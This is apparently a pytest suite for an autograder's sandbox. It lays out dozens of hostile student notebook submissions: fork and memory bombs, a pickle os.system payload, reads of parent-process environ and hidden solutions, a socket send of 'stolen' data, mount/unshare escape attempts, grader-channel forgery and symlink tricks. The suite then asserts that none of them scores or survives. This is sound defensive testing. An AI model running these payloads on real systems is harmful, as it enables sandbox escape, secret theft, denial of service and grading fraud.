"""A corpus of hostile submissions: none earns a point it should not, and the run survives them all.

Each attack is a 01_gates submission built from the solution with one answer cell replaced,
one cell added, or its files laid out differently (links, broken notebooks, odd names).
The whole class is graded once, in parallel, exactly as `autograder grade` does; each test
then checks one student: the attacked questions score 0, every other question scores full
marks, and nothing the attack started outlives the run or lands outside the sandbox.
Honest twins (the same answers without the trick) are graded in the same run and again in
a run without any attacker: their results must be identical.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import threading
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat
import pytest
from conftest import ROOT, by_question

from autograder import course
from autograder.course import simulate
from autograder.grade import grade_folder
from autograder.sandbox.isolation import detect

GATES = course.get_assignment("01_gates")
FULL = {q.name: q.points for q in GATES if not q.manual}
MARKER = "autograder-hostile-31337"


@dataclass
class Attack:
    """One hostile submission: answer cells replaced, cells added, and the questions it must lose."""

    replace: dict[str, str] = field(default_factory=dict)
    extra_cell: str | None = None
    loses: set[str] = field(default_factory=set)
    needs_namespaces: bool = False
    layout: Callable[[Path, str], None] | None = None
    """Writes the submission itself (links, broken files) instead of the usual notebook."""
    note: str | None = None
    """A word the submission's notes must contain (what the student is told)."""


WRONG_AT_ZERO = "def step(z):\n    return (np.asarray(z) >= 0).astype(float)\n"


LISTENER: dict = {}

ATTACKS = {
    "infinite_loop": Attack({"xor_network": "def xor_network():\n    while True:\n        pass\n"}, loses={"xor_network"}),
    "sleep": Attack({"xor_network": "import time\ndef xor_network():\n    time.sleep(10**6)\n"}, loses={"xor_network"}),
    "alarm_disabled_loop": Attack({"xor_network": (
        "import signal\n"
        "def xor_network():\n"
        "    signal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
        "    signal.setitimer = signal.alarm = lambda *a: 0\n"
        "    while True:\n        pass\n")}, loses={"xor_network"}),
    "fork_bomb": Attack({"xor_network": (
        "import os\n"
        "def xor_network():\n"
        "    while True:\n"
        "        try:\n            os.fork()\n"
        "        except OSError:\n            pass\n")}, loses={"xor_network"}),
    "memory_bomb": Attack({"xor_network": "def xor_network():\n    hog = [bytearray(2**30) for _ in range(64)]\n    return hog\n"}, loses={"xor_network"}),
    "disk_flood": Attack(extra_cell=(
        "import os\n"
        "for i in range(5000):\n    open(f'flood-{i}.txt', 'w').write('x' * 1000)\n"
        "with open('huge.bin', 'wb') as f:\n    f.write(b'0' * 2**30)\n")),
    "endless_output": Attack(extra_cell="import sys\nfor _ in range(200000):\n    sys.stdout.write('spam ' * 40 + '\\n')\n"),
    "sys_exit": Attack({"neuron": "import sys\ndef neuron(X, w, b, activation=None):\n    sys.exit(0)\n"}, loses={"neuron"}),
    "os_exit": Attack({"gate_weights": "import os\ndef gate_weights(name):\n    os._exit(0)\n"}, loses={"gate_weights", "gate_margin"}),
    "kill_itself": Attack({"xor_network": "import os, signal\ndef xor_network():\n    os.kill(os.getpid(), signal.SIGKILL)\n"}, loses={"xor_network"}),
    "fake_pass_and_fake_events": Attack(
        {"step": WRONG_AT_ZERO},
        extra_cell=(
            "import json, os\n"
            "print('PASS 7/7 all tests passed')\nprint('{\"event\": \"done\"}')\n"
            "fake = ''.join(json.dumps({'event': 'call', 'index': i, 'phase': 'end', 'observation': {'status': 'ok', 'value': 1.0}}) + '\\n' for i in range(200))\n"
            "for fd in range(3, 30):\n"
            "    try:\n        os.write(fd, fake.encode())\n    except OSError:\n        pass\n"),
        loses={"step"}),
    "patched_comparisons": Attack(
        {"step": WRONG_AT_ZERO},
        extra_cell=(
            "import builtins, numpy, numpy.testing\n"
            "numpy.allclose = lambda *a, **k: True\nnumpy.array_equal = lambda *a, **k: True\n"
            "numpy.testing.assert_allclose = lambda *a, **k: None\nbuiltins.abs = lambda x: 0\n"),
        loses={"step"}),
    "ipython_transformer": Attack(
        {"neuron": "def neuron(X, w, b, activation=None):\n    return np.zeros(len(X))\n"},
        extra_cell="get_ipython().input_transformers_cleanup.append(lambda lines: [])\n",
        loses={"neuron"}),
    "swallowing_excepthook": Attack(
        {"neuron": "def neuron(X, w, b, activation=None):\n    raise RuntimeError('hidden by the hook?')\n"},
        extra_cell="import sys, threading\nsys.excepthook = lambda *a: None\nthreading.excepthook = lambda *a: None\n",
        loses={"neuron"}),
    "gc_and_frame_scan": Attack({"xor_network": (
        "import gc, inspect\n"
        "def xor_network():\n"
        "    for obj in gc.get_objects():\n"
        "        if callable(obj) and getattr(obj, '__name__', '') == 'xor_network' and 'solution' in getattr(getattr(obj, '__code__', None), 'co_filename', ''):\n"
        "            return obj()\n"
        "    for frame in inspect.stack():\n"
        "        ref = frame.frame.f_globals.get('reference')\n"
        "        if ref:\n            return ref['xor_network']()\n"
        "    return None\n")}, loses={"xor_network"}),
    "read_solutions_and_parent_proc": Attack({"gate_weights": (
        "import json, os, pathlib\n"
        f"ROOT = pathlib.Path({str(ROOT)!r})\n"
        "def gate_weights(name):\n"
        "    secrets = [open(f'/proc/{os.getppid()}/environ', 'rb').read() if os.getppid() > 1 else b'']\n"
        "    nb = json.loads((ROOT / 'solutions' / '01_gates' / 'gates.ipynb').read_text())\n"
        "    code = next(''.join(c['source']) for c in nb['cells'] if c.get('id') == 'gate_weights')\n"
        "    exec(code, globals())\n"
        "    return gate_weights(name)\n")}, loses={"gate_weights", "gate_margin"}, needs_namespaces=True),
    "write_into_results": Attack(
        {"step": WRONG_AT_ZERO},
        extra_cell=(
            "import json, pathlib\n"
            "for who in ['write_into_results', 'control_heavy_imports']:\n"
            "    for out in pathlib.Path('/').glob('**/hostile-out/results'):\n"
            "        target = out / who / '01_gates.json'\n"
            "        target.parent.mkdir(parents=True, exist_ok=True)\n"
            "        target.write_text(json.dumps({'student': who, 'assignment': '01_gates', 'questions': []}))\n"),
        loses={"step"}, needs_namespaces=True),
    "malicious_reduce": Attack({"xor_network": (
        "import os\n"
        "class Payload:\n"
        f"    def __reduce__(self):\n        return (os.system, ('touch /tmp/{MARKER}-reduce',))\n"
        "def xor_network():\n    return Payload(), Payload(), Payload(), Payload()\n")}, loses={"xor_network"}),
    "network": Attack({"xor_network": (
        "import socket\n"
        "def xor_network():\n"
        "    with socket.create_connection(('127.0.0.1', PORT), timeout=2) as s:\n"
        "        s.sendall(b'stolen')\n"
        "    raise RuntimeError('sent')\n")}, loses={"xor_network"}, needs_namespaces=True),
    "double_fork_daemon": Attack(extra_cell=(
        "import os, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        os.execvp('sleep', ['sleep', '31337'])\n"
        "    os._exit(0)\n"
        "time.sleep(0.5)\n")),
    "patched_time": Attack(
        {"xor_network": "def xor_network():\n    while True:\n        pass\n"},
        extra_cell="import time, signal\ntime.time = time.perf_counter = time.monotonic = lambda: 0.0\nsignal.setitimer = lambda *a: (0.0, 0.0)\n",
        loses={"xor_network"}),
    "hard_coded_visible_cases": Attack({"step": (
        "def step(z):\n"
        "    z = np.asarray(z)\n"
        "    known = {(5,): [0.0, 0.0, 0.0, 1.0, 1.0], (2, 2): [[0.0, 1.0], [0.0, 1.0]], (2, 2, 2): np.zeros((2, 2, 2))}\n"
        "    return np.array(known.get(z.shape, np.zeros(z.shape)), dtype=float)\n")}, loses={"step", "neuron"}),  # neuron uses this step
    "input": Attack({"neuron": "def neuron(X, w, b, activation=None):\n    return float(input('weights? '))\n"}, loses={"neuron"}),
    "patched_kit_in_child": Attack(extra_cell=(
        "import autograder.student.probes\n"
        "autograder.student.probes.run_call = lambda *a, **k: {'status': 'ok', 'value': True, 'mutated': [], 'seconds': 0.0}\n"),
        loses=set(FULL)),
    "control_heavy_imports": Attack(extra_cell=(
        "import sympy, autograd, autograd.numpy as anp, matplotlib.pyplot as plt, nbformat\n"
        "x = sympy.symbols('x')\nassert sympy.diff(sympy.sin(x), x) == sympy.cos(x)\n")),
}


RELEASE = course.release_path(GATES, ROOT)
SOLUTION = ROOT / "solutions" / "01_gates" / "gates.ipynb"
ESCAPED = [ROOT / f"{MARKER}-escape", ROOT / "assignments" / f"{MARKER}-escape"]

# Undo the sandbox from inside: unmount the covers and /proc, remount / read-write, try a
# nested user namespace, then write outside and edit the released notebook. gate_weights
# wins only if one of these worked (it reads the solution, or sees the grader's processes).
ESCAPE_CELL = (
    "import ctypes, os, pathlib, subprocess\n"
    "libc = ctypes.CDLL(None, use_errno=True)\n"
    "for target in reversed([l.split()[1] for l in open('/proc/self/mounts').read().splitlines()]):\n"
    "    libc.umount2(target.encode(), 2)\n"
    f"for args in (['umount', '-l', '/proc'], ['umount', '-l', {str(ROOT / 'solutions')!r}], ['mount', '-o', 'remount,rw', '/'],\n"
    f"             ['mount', '-t', 'proc', 'proc', '/proc'], ['unshare', '-Urm', 'sh', '-c', 'umount -l {ROOT / 'solutions'}; touch {ESCAPED[0]}']):\n"
    "    try:\n        subprocess.run(args, capture_output=True, timeout=5)\n"
    "    except Exception:\n        pass\n"
    f"for target in {[str(p) for p in ESCAPED] + [str(RELEASE)]!r}:\n"
    "    try:\n        open(target, 'a').write('escaped')\n"
    "    except OSError:\n        pass\n")
ESCAPE_GATE_WEIGHTS = (
    "import json, os\n"
    "def gate_weights(name):\n"
    f"    try:\n        nb = json.load(open({str(SOLUTION)!r}))\n"
    "    except OSError:\n        nb = None\n"
    "    if nb or len([p for p in os.listdir('/proc') if p.isdigit()]) > 15:\n"
    "        table = {'AND': ([1.0, 1.0], -1.5), 'OR': ([1.0, 1.0], -0.5), 'NAND': ([-1.0, -1.0], 1.5), 'NOR': ([-1.0, -1.0], 0.5), 'NOT': ([-1.0], 0.5)}\n"
    "        w, b = table[name]\n        return np.array(w), b\n"
    "    return np.zeros(1 if name == 'NOT' else 2), 0.0\n")

# Answers on the grader's own channel: xor_network returns nothing useful and instead writes
# FORGED (its own index filled in) to the channel the kit answers on.
CHANNEL_FORGERY = (
    "import json, os, sys, time\n"
    "from autograder.student import plain\n"
    "def _index():\n"
    "    frame = sys._getframe()\n"
    "    while frame is not None and not (frame.f_code.co_name == 'main' and 'index' in frame.f_locals):\n"
    "        frame = frame.f_back\n"
    "    return frame.f_locals['index'] if frame is not None else 0\n"
    "def _send(text):\n"
    "    data = text.encode()\n"
    "    while data:\n        data = data[os.write(int(sys.argv[2]), data):]\n"
    "RIGHT = plain.encode(([[1.0, 1.0], [-1.0, -1.0]], [-0.5, 1.5], [1.0, 1.0], -1.5))\n"
    "def xor_network():\n"
    "    i = _index()\n"
    "    ok = {'status': 'ok', 'value': RIGHT, 'mutated': [], 'seconds': 0.0}\n"
    "FORGED\n"
    "    return None\n")
FORGERIES = {
    "deeply_nested_line": "    _send('{\"event\":\"call\",\"index\":%d,\"observation\":{\"status\":\"ok\",\"value\":' % i + '[' * 200000 + ']' * 200000 + '}}\\n')",
    "mutated_is_a_number": "    _send(json.dumps({'event': 'call', 'index': i, 'observation': {**ok, 'mutated': 5}}) + '\\n')",
    "traceback_is_a_number": "    _send(json.dumps({'event': 'call', 'index': i, 'observation': {'status': 'error', 'error': {'type': 'X', 'message': 'm', 'traceback': 5}}}) + '\\n')",
    "forged_done": "    _send(json.dumps({'event': 'done'}) + '\\n')",
    "unrequested_event": "    _send(''.join(json.dumps({'event': 'call', 'index': k, 'observation': ok}) + '\\n' for k in range(i + 1, i + 50)))",
    "answer_twice": "    _send(json.dumps({'event': 'call', 'index': i, 'observation': ok}) + '\\n')\n    time.sleep(0.5)",
    "flood_of_tiny_events": "    _send('{}\\n' * 3_000_000)",
    "endless_line": "    _send('x' * (129 * 2**20))",
    "heartbeat_stretching": ("    start = time.process_time()\n    while time.process_time() - start < 30:\n"
                             "        _send(json.dumps({'event': 'call', 'index': i, 'phase': 'start'}) + '\\n')\n        time.sleep(0.05)"),
    "forged_figures": ("    png = '\\x89PNG\\r\\n\\x1a\\n'.encode('latin-1') + os.urandom(2**20)\n    import base64\n"
                       "    for k in range(40):\n        _send(json.dumps({'event': 'figure', 'cell': 'plot-xor', 'png': base64.b64encode(png).decode()}) + '\\n')"),
}

FAKE_SCALAR = (
    "class Exact(np.float64):\n"
    "    __module__ = 'numpy'\n"
    "    def item(self):\n        return {'AND': -1.5, 'OR': -0.5, 'NAND': 1.5, 'NOR': 0.5, 'NOT': 0.5}[self.gate]\n"
    "def gate_weights(name):\n"
    "    w = {'AND': [1.0, 1.0], 'OR': [1.0, 1.0], 'NAND': [-1.0, -1.0], 'NOR': [-1.0, -1.0], 'NOT': [-1.0]}[name]\n"
    "    b = Exact(100.0)\n    b.gate = name\n"
    "    return np.array(w), b\n")
NUMPY_SCALAR = (
    "def gate_weights(name):\n"
    "    w, b = {'AND': ([1.0, 1.0], -1.5), 'OR': ([1.0, 1.0], -0.5), 'NAND': ([-1.0, -1.0], 1.5), 'NOR': ([-1.0, -1.0], 0.5), 'NOT': ([-1.0], 0.5)}[name]\n"
    "    return np.array(w), np.float64(b)\n")


def _solution_notebook() -> nbformat.NotebookNode:
    return simulate.fill(GATES, ROOT)


def _folder(submitted: Path, student: str) -> Path:
    folder = submitted / student / GATES.name
    folder.mkdir(parents=True)
    return folder


def linked_notebook(target: Callable[[Path], Path]):
    """The notebook is a symbolic link to ``target(submitted)``."""
    def lay(submitted: Path, student: str) -> None:
        (_folder(submitted, student) / GATES.notebook).symlink_to(target(submitted))
    return lay


def linked_inside(submitted: Path, student: str) -> None:
    """The honest twin of a link: the notebook links to a draft inside the student's own folder."""
    drafts = submitted / student / "drafts"
    drafts.mkdir(parents=True)
    nbformat.write(_solution_notebook(), drafts / GATES.notebook)
    (_folder(submitted, student) / GATES.notebook).symlink_to(Path("..") / "drafts" / GATES.notebook)


def linked_folder(target: Callable[[Path], Path]):
    def lay(submitted: Path, student: str) -> None:
        (submitted / student).mkdir(parents=True)
        (submitted / student / GATES.name).symlink_to(target(submitted), target_is_directory=True)
    return lay


def broken_notebook(edit: Callable[[dict], None]):
    """The solution notebook, as JSON, with ``edit`` applied to its first answer cell."""
    def lay(submitted: Path, student: str) -> None:
        notebook = json.loads(nbformat.writes(_solution_notebook()))
        edit(next(c for c in notebook["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("solution")))
        (_folder(submitted, student) / GATES.notebook).write_text(json.dumps(notebook))
    return lay


def odd_names(submitted: Path, student: str) -> None:
    """A folder and notebook whose names are not valid UTF-8 (Latin-1 bytes from an old zip)."""
    folder = submitted / os.fsdecode(b"nonutf8-\xff") / GATES.name
    folder.mkdir(parents=True)
    nbformat.write(_solution_notebook(), folder / os.fsdecode(b"gates-\xe9.ipynb"))


ALL = set(FULL)
ATTACKS.update({
    "escape_mounts_and_proc": Attack({"gate_weights": ESCAPE_GATE_WEIGHTS}, extra_cell=ESCAPE_CELL, loses={"gate_weights", "gate_margin"}, needs_namespaces=True),
    "fake_numpy_scalar": Attack({"gate_weights": FAKE_SCALAR}, loses={"gate_weights", "gate_margin"}),
    "twin_numpy_scalar": Attack({"gate_weights": NUMPY_SCALAR}),
    "linked_to_solutions": Attack(layout=linked_notebook(lambda s: SOLUTION), loses=ALL, note="link"),
    "linked_to_classmate": Attack(layout=linked_notebook(lambda s: s / "control_heavy_imports" / GATES.name / GATES.notebook), loses=ALL, note="link"),
    "linked_folder": Attack(layout=linked_folder(lambda s: SOLUTION.parent), loses=ALL, note="link"),
    "twin_linked_inside": Attack(layout=linked_inside),
    "source_null": Attack(layout=broken_notebook(lambda c: c.__setitem__("source", None)), loses=ALL, note="breaks the notebook format"),
    "nbgrader_metadata_a_string": Attack(layout=broken_notebook(lambda c: c["metadata"].__setitem__("nbgrader", "solution")), loses=ALL,
                                         note="breaks the notebook format"),
    "nonutf8-\\xff": Attack(layout=odd_names, note="gates-\\xe9.ipynb"),
    **{name: Attack({"xor_network": CHANNEL_FORGERY.replace("FORGED", code)}, loses={"xor_network"}) for name, code in FORGERIES.items()},
})
TWINS = ["control_heavy_imports", "twin_numpy_scalar", "twin_linked_inside"]


def build(attack: Attack, submitted: Path, student: str) -> None:
    if attack.layout is not None:
        attack.layout(submitted, student)
        return
    notebook = simulate.fill(GATES, ROOT, replace={k: v.replace("PORT", str(LISTENER.get("port", 9))) for k, v in attack.replace.items()})
    if attack.extra_cell:
        notebook.cells.insert(2, nbformat.v4.new_code_cell(attack.extra_cell))
    simulate.write(notebook, submitted, student, GATES)


def _listen() -> None:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.5)
    LISTENER.update(port=server.getsockname()[1], received=b"", server=server)

    def serve():
        while not LISTENER.get("stop"):
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                LISTENER["received"] += conn.recv(100)

    threading.Thread(target=serve, daemon=True).start()


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """Grade the whole hostile class once; return (results by student, output folder)."""
    _listen()
    base = tmp_path_factory.mktemp("hostile")
    submitted, out = base / "submitted", base / "hostile-out"
    for student, attack in ATTACKS.items():
        build(attack, submitted, student)
    release = RELEASE.read_bytes()
    # with figures: every attack also runs through the plot cells, a second way into the sandbox
    results = grade_folder(submitted, out, ["01_gates"], seed=99, jobs=2, root=ROOT, draw_figures=True)
    LISTENER["stop"] = True
    LISTENER["server"].close()
    assert hashlib.sha256(RELEASE.read_bytes()).digest() == hashlib.sha256(release).digest(), "the released notebook was changed"
    return {r.student: r for r in results}, out


@pytest.mark.slow
@pytest.mark.parametrize("student", sorted(ATTACKS))
def test_attack_earns_nothing_and_costs_only_its_own_questions(graded, student):
    attack = ATTACKS[student]
    if attack.needs_namespaces and not detect().namespaces:
        pytest.skip(f"this machine cannot isolate student code ({detect().describe()})")
    results, _ = graded
    got = by_question(results[student])
    for name, points in FULL.items():
        expected = 0 if name in attack.loses else points
        assert got[name].points == expected, f"{student}/{name}: {got[name].status}: {got[name].reason}"
    if attack.note:
        assert any(attack.note in n for n in results[student].notes), results[student].notes
    for name in attack.loses:  # the channel never passes on a forged timeout or a forged pass
        assert got[name].status != "passed"


@pytest.mark.slow
def test_every_student_was_graded_and_results_are_the_graders(graded):
    results, out = graded
    assert set(results) == set(ATTACKS)
    on_disk = {p.parent.name for p in (out / "results").glob("*/01_gates.json")}
    assert on_disk == set(ATTACKS)
    assert results["control_heavy_imports"].score == sum(FULL.values())
    assert [f["cell"] for f in results["control_heavy_imports"].figures] == ["plot-gates", "plot-xor"]
    assert all(r.sandbox for r in results.values())
    for result in results.values():
        for figure in result.figures:
            assert (out / "feedback" / result.student / figure["file"]).read_bytes().startswith(b"\x89PNG\r\n\x1a\n")


@pytest.mark.slow
def test_nothing_the_attacks_started_survives_the_run(graded):
    assert subprocess.run(["pgrep", "-f", "sleep 31337"], capture_output=True).returncode == 1
    assert not list(Path("/tmp").glob(f"{MARKER}*"))
    import os

    # this process's children only: another test worker may be grading right now
    assert not list(Path("/sys/fs/cgroup/pids").glob(f"autograder-{os.getpid()}-*"))


@pytest.mark.slow
def test_no_connection_left_the_sandbox(graded):
    if not detect().namespaces:
        pytest.skip("no network namespace on this machine")
    assert LISTENER["received"] == b""


@pytest.mark.slow
def test_hard_coded_answers_pass_the_visible_checks_but_not_grading(graded, tmp_path):
    """The student's own check cannot tell; the hidden cases can."""
    from autograder.submission import evaluate

    build(ATTACKS["hard_coded_visible_cases"], tmp_path, "hc")
    visible = by_question(evaluate(tmp_path / "hc" / "01_gates" / "gates.ipynb", GATES))
    assert visible["step"].passed
    assert by_question(graded[0]["hard_coded_visible_cases"])["step"].status == "failed"


@pytest.mark.slow
def test_nothing_was_written_outside_the_sandbox(graded):
    assert not [p for p in ESCAPED if p.exists()]
    assert not list(ROOT.glob(f"{MARKER}*"))


@pytest.mark.slow
def test_forged_figures_are_capped_in_the_grader(graded):
    from autograder.sandbox import MAX_FIGURE_BYTES, MAX_FIGURES

    results, out = graded
    for result in results.values():
        assert len(result.figures) <= MAX_FIGURES
        for figure in result.figures:
            assert (out / "feedback" / result.student / figure["file"]).stat().st_size <= MAX_FIGURE_BYTES
    page = out / "feedback" / "forged_figures" / "01_gates.html"
    assert page.stat().st_size < 40 * 2**20


@pytest.mark.slow
def test_honest_twins_get_the_same_result_as_in_a_class_without_attackers(graded, tmp_path):
    results, _ = graded
    submitted = tmp_path / "submitted"
    for student in TWINS:
        build(ATTACKS[student], submitted, student)
    alone = {r.student: r for r in grade_folder(submitted, tmp_path / "out", ["01_gates"], seed=99, jobs=2, root=ROOT)}
    for student in TWINS:
        assert results[student].score == sum(FULL.values())
        assert [(q.question, q.points, q.status, q.reason) for q in results[student].questions] == \
               [(q.question, q.points, q.status, q.reason) for q in alone[student].questions]
